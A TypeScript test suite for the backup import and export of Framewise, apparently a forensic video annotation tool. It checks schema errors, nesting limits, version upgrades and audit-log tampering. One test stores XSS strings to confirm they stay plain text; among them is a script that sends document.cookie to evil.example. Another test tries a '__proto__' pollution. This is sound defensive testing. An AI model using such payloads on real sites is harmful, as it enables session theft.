import Ajv from 'ajv';
import { describe, expect, it } from 'vitest';
import { AUDIT_ACTIONS, GENESIS_HASH, appendEntries, entriesForCommand, headHash } from './audit';
import {
  BACKUP_FORMAT,
  BACKUP_VERSION,
  MAX_PROBLEMS,
  buildBackup,
  parseBackup,
  type Backup,
  type BackupRecords,
} from './backup';
import { createEvent, createNote } from '../annotations/event-note-commands';
import {
  applyCommand,
  emptyDocument,
  type AnnotationDocument,
  type Command,
} from '../annotations/history';
import { frameIndex, type CaseId, type LabelId, type TrackId } from '../ids';
import { createMeasurement, saveCalibration } from '../measure/measure-commands';
import { ROAD_CALIBRATION } from '../measure/measure-test-support';
import { upgradeBackup } from './backup-upgrade';
import { DEFAULT_LABELS, type Label, type Shape } from '../annotations/model';
import schema from '../schemas/backup.schema.json';
import {
  at,
  box,
  drawTrack,
  TEST_CASE,
  TEST_SET,
  TEST_EVIDENCE,
  TEST_NOW,
  deepFreeze,
  withoutSetId,
} from '../test-support';

const GENERATOR = { name: 'Framewise', version: '0.1.0' };
const MADE = '2026-03-01T12:00:00.000Z';

/** One shape of each of the seven kinds. */
const SHAPES: readonly Shape[] = [
  box(10, 20, 100, 50),
  { kind: 'ellipse', cx: 50, cy: 60, rx: 20, ry: 10, rotation: 45 },
  {
    kind: 'polygon',
    points: [
      { x: 0, y: 0 },
      { x: 10, y: 0 },
      { x: 5, y: 8.5 },
    ],
  },
  {
    kind: 'polyline',
    points: [
      { x: -3, y: 4 },
      { x: 30, y: 40 },
    ],
  },
  { kind: 'points', points: [{ x: 1.5, y: 2.25 }] },
  { kind: 'arrow', from: { x: 0, y: 0 }, to: { x: 100, y: 80 } },
  { kind: 'text', x: 5, y: 5, text: 'driver’s door', fontSize: 24 },
];

const extraLabel: Label = {
  id: 'label_dog' as LabelId,
  name: 'dog',
  color: '#00ff00',
  attributes: [],
};

interface Texts {
  readonly caseName?: string;
  readonly labelName?: string;
  readonly noteText?: string;
  readonly eventText?: string;
  readonly examiner?: string;
}

/**
 * Records of one case as the app makes them: a track of each shape kind, an event, a note and
 * a label-set edit, each a command in the undo history and in a valid audit chain.
 */
async function caseRecords(texts: Texts = {}): Promise<BackupRecords> {
  const labels = [...DEFAULT_LABELS, { ...extraLabel, name: texts.labelName ?? 'dog' }];
  const commands: Command[] = [];
  let doc: AnnotationDocument = emptyDocument(DEFAULT_LABELS);
  const run = (command: Command) => {
    commands.push(command);
    doc = applyCommand(doc, command);
  };
  SHAPES.forEach((shape, i) => run(drawTrack(doc, 3 + i, shape, i % 3)));
  run(
    createEvent({
      caseId: TEST_CASE.id,
      setId: TEST_SET.id,
      labelId: null,
      start: at(1),
      end: at(9),
      description: texts.eventText ?? 'vehicle reverses',
      now: TEST_NOW,
    }),
  );
  run(
    createNote({
      caseId: TEST_CASE.id,
      setId: TEST_SET.id,
      at: { ...at(4), frameMd5: 'd41d8cd98f00b204e9800998ecf8427e' },
      kind: 'observation',
      text: texts.noteText ?? 'door opens',
      now: TEST_NOW,
    }),
  );
  run(
    saveCalibration(doc, {
      caseId: TEST_CASE.id,
      setId: TEST_SET.id,
      evidenceSha256: TEST_EVIDENCE.sha256,
      inputs: ROAD_CALIBRATION,
      now: TEST_NOW,
    }),
  );
  run(
    createMeasurement({
      caseId: TEST_CASE.id,
      setId: TEST_SET.id,
      inputs: {
        kind: 'speed',
        trackIds: [[...doc.tracks.keys()][0] as TrackId],
        fromFrame: frameIndex(3),
        toFrame: frameIndex(9),
        halfFrameTiming: true,
      },
      now: TEST_NOW,
    }),
  );
  run({
    name: 'edit labels',
    changes: [{ kind: 'labels', before: DEFAULT_LABELS, after: labels }],
  });
  const meta = {
    caseId: TEST_CASE.id,
    at: TEST_NOW,
    examiner: texts.examiner ?? 'A. Examiner',
    appVersion: '0.1.0',
    kind: 'do' as const,
  };
  const audit = await appendEntries(
    null,
    commands.flatMap((command) => entriesForCommand(command, meta)),
  );
  return {
    evidence: [TEST_EVIDENCE],
    cases: [{ ...TEST_CASE, name: texts.caseName ?? TEST_CASE.name, labels }],
    sets: [TEST_SET],
    tracks: [...doc.tracks.values()],
    events: [...doc.events.values()],
    notes: [...doc.notes.values()],
    calibrations: [...doc.calibrations.values()],
    measurements: [...doc.measurements.values()],
    histories: [{ setId: TEST_SET.id, caseId: TEST_CASE.id, past: commands, future: [] }],
    deletions: [],
    audit,
    settings: [
      { key: 'examiner', value: 'A. Examiner' },
      { key: 'cacheMegabytes', value: 512 },
      { key: 'showHints', value: true },
    ],
  };
}

const backupOf = async (texts: Texts = {}): Promise<Backup> =>
  buildBackup(await caseRecords(texts), { now: MADE, generator: GENERATOR });

/** A deep copy of the backup as plain JSON, changed by `edit`, as text. */
function edited(backup: Backup, edit: (json: Json) => void): string {
  const json = JSON.parse(JSON.stringify(backup)) as Json;
  edit(json);
  return JSON.stringify(json);
}

type Json = Record<string, unknown>;

/** The object or list at a path of keys and indexes. */
function nodeAt(json: Json, ...path: (string | number)[]): Json {
  let node: unknown = json;
  for (const step of path) node = (node as Record<string | number, unknown>)[step];
  return node as Json;
}

async function problemsOf(text: string): Promise<string[]> {
  const result = await parseBackup(text);
  if (result.ok) throw new Error('expected the backup to be refused');
  return result.problems;
}

describe('buildBackup and parseBackup: a good backup', () => {
  it('accepts a backup of real records, every shape kind included, unchanged', async () => {
    const backup = await backupOf();
    expect(backup).toMatchObject({ format: BACKUP_FORMAT, version: BACKUP_VERSION });
    expect(new Set(backup.records.tracks.map((t) => t.keyframes[0]!.shape.kind)).size).toBe(7);
    const result = await parseBackup(JSON.stringify(backup, null, 2));
    expect(result).toEqual({ ok: true, backup: JSON.parse(JSON.stringify(backup)) as Backup });
  });

  it('records each case’s audit head beside its log', async () => {
    const records = await caseRecords();
    const other = { ...TEST_CASE, id: 'case_empty' as CaseId, name: 'No edits yet' };
    const backup = buildBackup(
      { ...records, cases: [...records.cases, other] },
      { now: MADE, generator: GENERATOR },
    );
    expect(backup.createdAt).toBe(MADE);
    expect(backup.generator).toEqual(GENERATOR);
    expect(backup.auditHeads).toEqual([
      { caseId: TEST_CASE.id, count: records.audit.length, headHash: headHash(records.audit) },
      { caseId: 'case_empty', count: 0, headHash: GENESIS_HASH },
    ]);
    expect((await parseBackup(JSON.stringify(backup))).ok).toBe(true);
  });

  it('accepts a byte-order mark before the JSON', async () => {
    const text = `\uFEFF${JSON.stringify(await backupOf())}`;
    expect((await parseBackup(text)).ok).toBe(true);
  });

  it('takes script in text as text: stored as it is, never interpreted', async () => {
    const hostile = {
      caseName: '<script>alert("case")</script>',
      labelName: '"><img src=x onerror=alert(1)>',
      noteText: '<script>document.location="https://evil.example/?"+document.cookie</script>',
      eventText: "javascript:alert('event')//\u2028${constructor.constructor('x')()}",
      examiner: '{{constructor.constructor("alert(1)")()}}',
    };
    const backup = await backupOf(hostile);
    const result = await parseBackup(JSON.stringify(backup));
    if (!result.ok) throw new Error(result.problems.join('\n'));
    const { records } = result.backup;
    expect(records.cases[0]!.name).toBe(hostile.caseName);
    expect(records.cases[0]!.labels.at(-1)!.name).toBe(hostile.labelName);
    expect(records.notes[0]!.text).toBe(hostile.noteText);
    expect(records.events[0]!.description).toBe(hostile.eventText);
    expect(records.audit[0]!.examiner).toBe(hostile.examiner);
  });

  it('takes brackets inside text as text, however many', async () => {
    const backup = await backupOf({ noteText: '[{'.repeat(5000) });
    expect((await parseBackup(JSON.stringify(backup))).ok).toBe(true);
  });

  it('has a schema file that describes a whole backup by itself, and every audit action', async () => {
    const ajv = new Ajv({ strict: true, allowUnionTypes: true, discriminator: true });
    const validate = ajv.compile(schema);
    const backup = JSON.parse(JSON.stringify(await backupOf())) as unknown;
    expect(validate(backup), JSON.stringify(validate.errors)).toBe(true);
    const pattern = new RegExp(schema.definitions.auditEntry.properties.action.pattern, 'u');
    for (const action of AUDIT_ACTIONS) expect(action).toMatch(pattern);
    const kinds = schema.definitions.shape.oneOf.map((s) => s.properties.kind.const);
    expect(kinds).toEqual(SHAPES.map((s) => s.kind));
  });
});

describe('parseBackup: files that are not a backup', () => {
  it('refuses an empty file, JSON that is not an object, and other formats', async () => {
    expect(await problemsOf('')).toEqual(['The file is empty.']);
    expect(await problemsOf(' \n ')).toEqual(['The file is empty.']);
    expect(await problemsOf('[1, 2]')).toEqual([
      'The file is JSON, but not a Framewise backup: it holds a list, not an object.',
    ]);
    expect(await problemsOf('{"format": "framewise.annotations", "version": 3}')).toEqual([
      expect.stringMatching(/^This is an annotations export, not a backup/),
    ]);
    expect(await problemsOf('{"name": "x"}')).toEqual([
      'The file is JSON, but not a Framewise backup: it has no "format".',
    ]);
    expect(await problemsOf('{"format": "framewise.backup", "version": 6}')).toEqual([
      expect.stringMatching(/^This backup is version 6, made by a newer Framewise/),
    ]);
    expect(await problemsOf('{"format": "framewise.backup", "version": "1"}')).toEqual([
      'This backup\'s version is "1"; this Framewise reads versions 1 to 5.',
    ]);
  });

  it('refuses text that is not JSON, saying where', async () => {
    const [problem] = await problemsOf('{\n  "format": "framewise.backup",\n  oops\n}');
    expect(problem).toMatch(/^The file is not valid JSON at line 3, column 3/);
  });

  it('refuses a truncated file, saying where it ends', async () => {
    const text = JSON.stringify(await backupOf());
    const cut = text.slice(0, Math.floor(text.length / 2));
    const [problem] = await problemsOf(cut);
    expect(problem).toMatch(
      /^The file is not complete JSON \(it ends at character [\d,]+\)\. It was probably cut short/,
    );
    expect(problem).toContain(cut.length.toLocaleString('en-US'));
    const inText = text.slice(0, text.indexOf('door opens') + 4);
    expect(await problemsOf(inText)).toEqual([
      `The file is not complete JSON (it ends at character ${inText.length.toLocaleString('en-US')}). It was probably cut short while being saved, copied or downloaded.`,
    ]);
    // Brackets that do not match are not a file cut short.
    expect(await problemsOf('{"format": [1, 2}')).toEqual([
      expect.stringMatching(/^The file is not valid JSON at line 1, column 17/),
    ]);
  });

  it('refuses text over the size limit before reading it', async () => {
    const limits = { maxChars: 100, maxDepth: 64 };
    const result = await parseBackup(`{"format": "${'x'.repeat(100)}"}`, limits);
    expect(result).toEqual({
      ok: false,
      problems: [
        'The file is too large to be a Framewise backup: 114 characters, and a backup is at most 100.',
      ],
    });
  });

  it('refuses 50 MB of nesting quickly, without parsing it', async () => {
    const deep = '['.repeat(50_000_000);
    const started = performance.now();
    const problems = await problemsOf(deep);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(problems).toEqual([
      'The file nests lists or objects more than 64 levels deep (at character 65). A Framewise backup never does: the file is damaged or is not a backup.',
    ]);
    const objects = `{"format":"framewise.backup","a":${'{"a":'.repeat(1_000_000)}`;
    expect(await problemsOf(objects)).toEqual([expect.stringMatching(/more than 64 levels deep/)]);
  });

  it('refuses nesting too deep even where any JSON value is allowed (an audit record)', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'audit', 0).after = JSON.parse(`${'['.repeat(70)}${']'.repeat(70)}`);
    });
    expect(await problemsOf(text)).toEqual([expect.stringMatching(/more than 64 levels deep/)]);
  });
});

describe('parseBackup: records that do not match the schema', () => {
  it('names the path and what it must be, for wrong types', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 0).number = '1';
      nodeAt(json, 'records', 'cases', 0).name = 5;
      nodeAt(json, 'records', 'notes', 0).kind = 'guess';
      nodeAt(json, 'records', 'evidence', 0).timeBase = '1/12800';
      nodeAt(json, 'records', 'settings', 0).value = null;
      nodeAt(json, 'records', 'tracks', 1, 'keyframes', 0).outside = 'no';
    });
    expect(await problemsOf(text)).toEqual([
      'records.evidence[0].timeBase must be a time base {num, den}; it is "1/12800".',
      'records.cases[0].name must be text of at most 1,000 characters; it is 5.',
      'records.tracks[0].number must be a whole number from 1 to 1,000,000,000; it is "1".',
      'records.tracks[1].keyframes[0].outside must be true or false; it is "no".',
      'records.notes[0].kind must be observation, interpretation or citation; it is "guess".',
      'records.settings[0].value must be text of at most 100,000 characters, a number from -1e15 to 1e15, or true or false; it is null.',
    ]);
  });

  it('names missing fields and lists', async () => {
    const backup = await backupOf();
    expect(
      await problemsOf(
        edited(backup, (json) => {
          delete nodeAt(json, 'records', 'notes', 0).text;
          delete nodeAt(json, 'records', 'tracks', 2, 'keyframes', 0, 'shape').points;
        }),
      ),
    ).toEqual([
      'records.tracks[2].keyframes[0].shape.points is missing.',
      'records.notes[0].text is missing.',
    ]);
    expect(
      await problemsOf(
        edited(backup, (json) => {
          delete nodeAt(json, 'records').events;
          delete json.createdAt;
        }),
      ),
    ).toEqual(['createdAt is missing.', 'records.events is missing.']);
  });

  it('refuses huge numbers, 1e400 (Infinity once parsed) among them', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 0, 'keyframes', 0, 'shape').x = 1e300;
      nodeAt(json, 'records', 'evidence', 0).size = 1e20;
      nodeAt(json, 'records', 'settings', 1).value = 1e16;
    }).replace('"rotation":45', '"rotation":1e400');
    expect(text).toContain('1e400');
    expect(await problemsOf(text)).toEqual([
      'records.evidence[0].size must be a whole number of bytes ≥ 0; it is 100000000000000000000.',
      'records.tracks[0].keyframes[0].shape.x must be a number from -10,000,000 to 10,000,000 (frame pixels); it is 1e+300.',
      'records.tracks[1].keyframes[0].shape.rotation must be a number of degrees from -360 to 360; it is a number too large to hold.',
      'records.settings[1].value must be text of at most 100,000 characters, a number from -1e15 to 1e15, or true or false; it is 10000000000000000.',
    ]);
  });

  it('refuses negative and fractional frames', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 3, 'keyframes', 0).frame = -1;
      nodeAt(json, 'records', 'events', 0).endFrame = 2.5;
      nodeAt(json, 'records', 'notes', 0).frame = 1_000_000_001;
    });
    expect(await problemsOf(text)).toEqual([
      'records.tracks[3].keyframes[0].frame must be a whole number ≥ 0 and ≤ 1,000,000,000; it is -1.',
      'records.events[0].endFrame must be a whole number ≥ 0 and ≤ 1,000,000,000; it is 2.5.',
      'records.notes[0].frame must be a whole number ≥ 0 and ≤ 1,000,000,000; it is 1000000001.',
    ]);
  });

  it('refuses an unknown shape kind and a shape short of points, also inside the undo history', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 0, 'keyframes', 0, 'shape').kind = 'hexagon';
      nodeAt(json, 'records', 'tracks', 2, 'keyframes', 0, 'shape').points = [{ x: 0, y: 0 }];
      nodeAt(
        json,
        'records',
        'histories',
        0,
        'past',
        6,
        'changes',
        0,
        'after',
        'keyframes',
        0,
      ).shape = {
        kind: 'text',
        x: 0,
        y: 0,
        text: 'x',
        fontSize: 0,
      };
    });
    expect(await problemsOf(text)).toEqual([
      'records.tracks[0].keyframes[0].shape.kind must be one of rectangle, ellipse, polygon, polyline, points, arrow, text; it is "hexagon".',
      'records.tracks[2].keyframes[0].shape.points must have at least 3 items; it has 1.',
      'records.histories[0].past[6].changes[0].after.keyframes[0].shape.fontSize must be a number above 0 and ≤ 10,000,000 (frame pixels); it is 0.',
    ]);
  });

  it('refuses a change record of the wrong kind, or neither a record nor null', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'histories', 0, 'past', 0, 'changes', 0).before = 'gone';
      nodeAt(json, 'records', 'histories', 0, 'past', 1, 'changes', 0).kind = 'case';
    });
    expect(await problemsOf(text)).toEqual([
      'records.histories[0].past[0].changes[0].before must be a track (an object) or null; it is "gone".',
      'records.histories[0].past[1].changes[0].kind must be one of track, event, note, labels, calibration, measurement, sync; it is "case".',
    ]);
  });

  it('refuses fields a backup does not have, and a "__proto__" attribute', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 0).poison = 1;
      json.extra = true;
      nodeAt(json, 'records', 'cases', 0, 'labels', 0, 'attributes', 0).onclick = 'alert(1)';
    }).replace('"attributes":{', '"attributes":{"__proto__":{"polluted":true},');
    expect(await problemsOf(text)).toEqual([
      'The file has a field "extra", which a Framewise backup does not have.',
      'records.cases[0].labels[0].attributes[0] has a field "onclick", which a Framewise backup does not have.',
      'records.tracks[0] has a field "poison", which a Framewise backup does not have.',
      'records.tracks[0].attributes has a key that is not allowed: "__proto__".',
      'records.tracks[0].attributes.__proto__ must be text of at most 100,000 characters, a number from -1e15 to 1e15, or true or false; it is an object.',
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses an attribute default of the wrong type for its attribute', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      // The officer's "holding on to vehicle" is a checkbox.
      nodeAt(json, 'records', 'cases', 0, 'labels', 0, 'attributes', 1).defaultValue = 'yes';
    });
    expect(await problemsOf(text)).toEqual([
      'records.cases[0].labels[0].attributes[1].defaultValue must be true or false (the attribute is a checkbox); it is "yes".',
    ]);
  });

  it(`lists at most ${MAX_PROBLEMS} problems, even for a million bad records`, async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records').notes = Array.from({ length: 1_000_000 }, () => ({ id: 7 }));
    });
    const started = performance.now();
    const problems = await problemsOf(text);
    expect(performance.now() - started).toBeLessThan(15000);
    expect(problems).toHaveLength(MAX_PROBLEMS);
    expect(problems[0]).toBe('records.notes[0].caseId is missing.');
    expect(problems.at(-1)).toBe(`…and more problems; the first ${MAX_PROBLEMS - 1} are listed.`);
  });
});

describe('parseBackup: what a schema cannot check', () => {
  it('refuses duplicate ids', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      const tracks = nodeAt(json, 'records', 'tracks') as unknown as unknown[];
      tracks.push(tracks[0]);
      const settings = nodeAt(json, 'records', 'settings') as unknown as unknown[];
      settings.push({ key: 'examiner', value: 'Someone else' });
    });
    const id = backup.records.tracks[0]!.id;
    expect(await problemsOf(text)).toEqual([
      `records.tracks[7].id "${id}" is also the id of records.tracks[0]; each id may appear once.`,
      'records.settings[3].key "examiner" is also the key of records.settings[0]; each key may appear once.',
    ]);
  });

  it('refuses records of a case not in the file, and a case without its evidence', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'notes', 0).caseId = 'case_missing';
      nodeAt(json, 'records').evidence = [];
    });
    expect(await problemsOf(text)).toEqual([
      'records.cases[0].evidenceSha256 refers to evidence that is not in the file (case "Test case").',
      'records.notes[0].caseId "case_missing" is not the id of any case in the file.',
    ]);
  });

  it('refuses an added video not in the file, one held twice, and a set of no video of its case', async () => {
    const backup = await backupOf();
    const added = 'c'.repeat(64);
    const text = edited(backup, (json) => {
      const record = nodeAt(json, 'records', 'cases', 0);
      record.addedVideos = [
        { sha256: added, fileName: 'phone.mp4', addedAt: TEST_CASE.createdAt, clock: null },
        {
          sha256: record.evidenceSha256,
          fileName: 'again.mp4',
          addedAt: TEST_CASE.createdAt,
          clock: null,
        },
      ];
      nodeAt(json, 'records', 'sets', 0).evidenceSha256 = 'd'.repeat(64);
    });
    expect(await problemsOf(text)).toEqual([
      'records.cases[0].addedVideos[0].sha256 refers to evidence that is not in the file (case "Test case").',
      'records.cases[0].addedVideos[1] is a video the case already holds.',
      `records.sets[0].evidenceSha256 is not a video of its case ("${TEST_CASE.id}").`,
    ]);
  });

  it('refuses an event that ends before it starts', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'events', 0).startFrame = 20;
    });
    expect(await problemsOf(text)).toEqual([
      'records.events[0] ends (frame 9) before it starts (frame 20).',
    ]);
  });

  it('refuses keyframes out of order and a label the case does not have', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      const track = nodeAt(json, 'records', 'tracks', 0);
      const keyframes = track.keyframes as unknown[];
      keyframes.push(structuredClone(keyframes[0]));
      track.labelId = 'label_nobody';
    });
    const problems = await problemsOf(text);
    expect(problems.some((p) => p.includes('keyframes must be in frame order'))).toBe(true);
    expect(problems.some((p) => p.includes('is not a label of its case'))).toBe(true);
  });

  it('refuses an undo history that would write into another case or set', async () => {
    const backup = await backupOf();
    const firstChanged = (json: Record<string, unknown>) => {
      const history = nodeAt(json, 'records', 'histories', 0);
      const step = (history.past as { changes: { after: Record<string, string> | null }[] }[])[0]!;
      return step.changes.find((c) => c.after)!.after!;
    };
    const otherCase = edited(backup, (json) => {
      firstChanged(json).caseId = 'case_elsewhere';
    });
    expect((await problemsOf(otherCase)).some((p) => p.includes('of another annotation set'))).toBe(
      true,
    );
    const otherSet = edited(backup, (json) => {
      firstChanged(json).setId = 'set_elsewhere';
    });
    expect(await problemsOf(otherSet)).toEqual([
      'records.histories[0] step 0 changes a track of another annotation set ("set_elsewhere" of case "case_test"); a set\'s undo history may only change that set.',
    ]);
  });

  it('refuses records of a set that is not in the file, or of another case', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'tracks', 0).setId = 'set_nowhere';
      nodeAt(json, 'records', 'sets', 0).caseId = 'case_nowhere';
    });
    expect(await problemsOf(text)).toEqual(
      expect.arrayContaining([
        'records.sets[0].caseId "case_nowhere" is not the id of any case in the file.',
        'records.tracks[0].setId "set_nowhere" is not the id of any annotation set in the file.',
        'records.events[0].setId "set_test" is an annotation set of another case.',
      ]),
    );
  });

  it('reads a version 1 backup (before sets): each case gets its first set, made by its creator', async () => {
    const backup = await backupOf();
    const v1 = JSON.parse(JSON.stringify(backup)) as Record<string, unknown>;
    v1.version = 1;
    const records = v1.records as Record<string, unknown[]>;
    const strip = (list: unknown[]) => list.map((r) => withoutSetId(r as object));
    for (const table of ['tracks', 'events', 'notes']) records[table] = strip(records[table]!);
    // A version 1 history's commands held records without a set, too.
    const bare = (r: unknown) =>
      r !== null && typeof r === 'object' && !Array.isArray(r) && 'caseId' in r
        ? withoutSetId(r)
        : r;
    type Step = { changes: { before: unknown; after: unknown }[] };
    records.history = strip(records.histories!).map((h) => {
      const { past, future } = h as { past: Step[]; future: Step[] };
      const steps = (list: Step[]) =>
        list.map((c) => ({
          ...c,
          changes: c.changes.map((ch) => ({
            ...ch,
            before: bare(ch.before),
            after: bare(ch.after),
          })),
        }));
      return { ...h, past: steps(past), future: steps(future) };
    });
    delete records.histories;
    delete records.sets;
    const frozen = JSON.stringify(v1);
    const parsed = await parseBackup(frozen);
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    const upgraded = parsed.backup.records;
    expect(upgraded.sets).toEqual([
      {
        id: 'set_test',
        caseId: TEST_CASE.id,
        evidenceSha256: TEST_CASE.evidenceSha256,
        name: 'Set 1',
        annotator: 'A. Examiner',
        status: 'in progress',
        createdAt: TEST_CASE.createdAt,
        modifiedAt: TEST_CASE.modifiedAt,
      },
    ]);
    expect(upgraded.tracks.every((t) => t.setId === 'set_test')).toBe(true);
    expect(upgraded.histories[0]!.setId).toBe('set_test');
    // The records inside its undo steps joined the set too (an undo must not write a record
    // of no set).
    const stepRecords = upgraded.histories[0]!.past.flatMap((c) =>
      c.changes.flatMap((ch) =>
        ch.kind === 'labels' || ch.kind === 'sync' ? [] : [ch.before, ch.after],
      ),
    );
    expect(stepRecords.filter((r) => r !== null).every((r) => r!.setId === 'set_test')).toBe(true);
    expect(upgraded.histories[0]!.past).toEqual(backup.records.histories[0]!.past);
    expect(parsed.backup.version).toBe(5);
  });

  it('reads a version 2 backup (before the clock uncertainty): a reading, ± 1 s, no zone', async () => {
    const backup = await backupOf();
    const legacyClock = {
      frame: 12,
      dvrTime: '2025-09-12 08:01:00.480',
      offsetSeconds: 83.5,
      offsetNote: 'GPS phone',
    };
    const text = edited(backup, (json) => {
      json.version = 2;
      nodeAt(json, 'records', 'cases', 0).clock = legacyClock;
    });
    const parsed = await parseBackup(text);
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.backup.version).toBe(5);
    expect(parsed.backup.records.cases[0]!.clock).toEqual({
      ...legacyClock,
      method: 'reading',
      uncertaintySeconds: 1,
      utcOffsetMinutes: null,
    });
    // A version 3 file must say how its clock was read.
    const unsaid = edited(backup, (json) => {
      nodeAt(json, 'records', 'cases', 0).clock = legacyClock;
    });
    expect((await problemsOf(unsaid))[0]).toMatch(/records\.cases\[0\]\.clock/);
  });

  it('reads a version 3 backup (before measurement): no calibrations or measurements', async () => {
    const backup = await backupOf();
    const v3 = JSON.parse(JSON.stringify(backup)) as Json;
    v3.version = 3;
    const records = v3.records as Json;
    delete records.calibrations;
    delete records.measurements;
    // Its histories hold no measurement commands either (else the sets would disagree).
    records.histories = [];
    const upgraded = upgradeBackup(deepFreeze(structuredClone(v3)));
    expect(upgraded.version).toBe(5);
    expect(upgraded.records).toMatchObject({ calibrations: [], measurements: [] });
    // The input is left as it was (deepFreeze would have thrown on a write).
    expect(v3.version).toBe(3);
    expect('calibrations' in records).toBe(false);
    const parsed = await parseBackup(JSON.stringify(v3));
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.backup.records.measurements).toEqual([]);
    expect(parsed.backup.records.tracks).toEqual(backup.records.tracks);
    // A version 4 file must hold both lists.
    const unsaid = edited(backup, (json) => {
      delete (json.records as Json).measurements;
    });
    expect(await problemsOf(unsaid)).toEqual(['records.measurements is missing.']);
  });

  it('keeps calibrations and measurements, and refuses them out of place or malformed', async () => {
    const backup = await backupOf();
    expect(backup.records.calibrations).toHaveLength(1);
    expect(backup.records.measurements).toHaveLength(1);
    const parsed = await parseBackup(JSON.stringify(backup));
    expect(parsed.ok && parsed.backup.records.calibrations).toEqual(backup.records.calibrations);
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'measurements', 0).setId = 'set_nowhere';
      nodeAt(json, 'records', 'calibrations', 0).caseId = 'case_nowhere';
    });
    expect(await problemsOf(text)).toEqual(
      expect.arrayContaining([
        'records.calibrations[0].caseId "case_nowhere" is not the id of any case in the file.',
        'records.measurements[0].setId "set_nowhere" is not the id of any annotation set in the file.',
      ]),
    );
    const bad = edited(backup, (json) => {
      nodeAt(json, 'records', 'measurements', 0).kind = 'acceleration';
      nodeAt(json, 'records', 'calibrations', 0).pointSigmaPx = -1;
    });
    const problems = await problemsOf(bad);
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^records\.measurements\[0\]\.kind /),
        expect.stringMatching(/^records\.calibrations\[0\]\.pointSigmaPx /),
      ]),
    );
  });

  it('keeps a calibration’s ground points, reads one without them, refuses one out of its box', async () => {
    const backup = await backupOf();
    // The calibration as stored before ground points existed: no field.
    expect('groundAnchors' in backup.records.calibrations[0]!).toBe(false);
    expect((await parseBackup(JSON.stringify(backup))).ok).toBe(true);
    const anchored = edited(backup, (json) => {
      nodeAt(json, 'records', 'calibrations', 0).groundAnchors = {
        byLabel: { label_vehicle: { u: 0.5, v: 0.5 } },
        byTrack: { track_t: { u: 0.5, v: 0 } },
      };
    });
    const parsed = await parseBackup(anchored);
    expect(parsed.ok && parsed.backup.records.calibrations[0]!.groundAnchors).toEqual({
      byLabel: { label_vehicle: { u: 0.5, v: 0.5 } },
      byTrack: { track_t: { u: 0.5, v: 0 } },
    });
    const outside = edited(backup, (json) => {
      nodeAt(json, 'records', 'calibrations', 0).groundAnchors = {
        byLabel: {},
        byTrack: { track_t: { u: 2, v: 0 } },
      };
    });
    expect(await problemsOf(outside)).toEqual([
      expect.stringMatching(/^records\.calibrations\[0\]\.groundAnchors\.byTrack\.track_t\.u /),
    ]);
  });

  it('refuses a tampered audit entry, naming the case and the entry', async () => {
    const backup = await backupOf();
    const text = edited(backup, (json) => {
      nodeAt(json, 'records', 'audit', 2).examiner = 'Someone else';
    });
    expect(await problemsOf(text)).toEqual([
      'The audit log of case "Test case" is broken at entry 2 (records.audit[2]): entry 2 was changed: its hash does not match its contents. The file was changed after it was made, or is damaged.',
    ]);
  });

  it('refuses an audit log with an entry taken out, or cut short at the end', async () => {
    const backup = await backupOf();
    const count = backup.records.audit.length;
    const removed = edited(backup, (json) => {
      (nodeAt(json, 'records', 'audit') as unknown as unknown[]).splice(3, 1);
    });
    expect(await problemsOf(removed)).toEqual([
      expect.stringMatching(
        /^The audit log of case "Test case" is broken at entry 3: entry 3 is missing: the sequence jumps from 2 to 4\./,
      ),
    ]);
    const cut = edited(backup, (json) => {
      (nodeAt(json, 'records', 'audit') as unknown as unknown[]).pop();
    });
    expect(await problemsOf(cut)).toEqual([
      `The audit log of case "Test case" has ${count - 1} entries, but the backup recorded ${count} entries when it was made: entries were removed from its end.`,
    ]);
    const noHeads = edited(backup, (json) => {
      json.auditHeads = [];
    });
    expect(await problemsOf(noHeads)).toEqual(['auditHeads has no entry for case "Test case".']);
  });
});
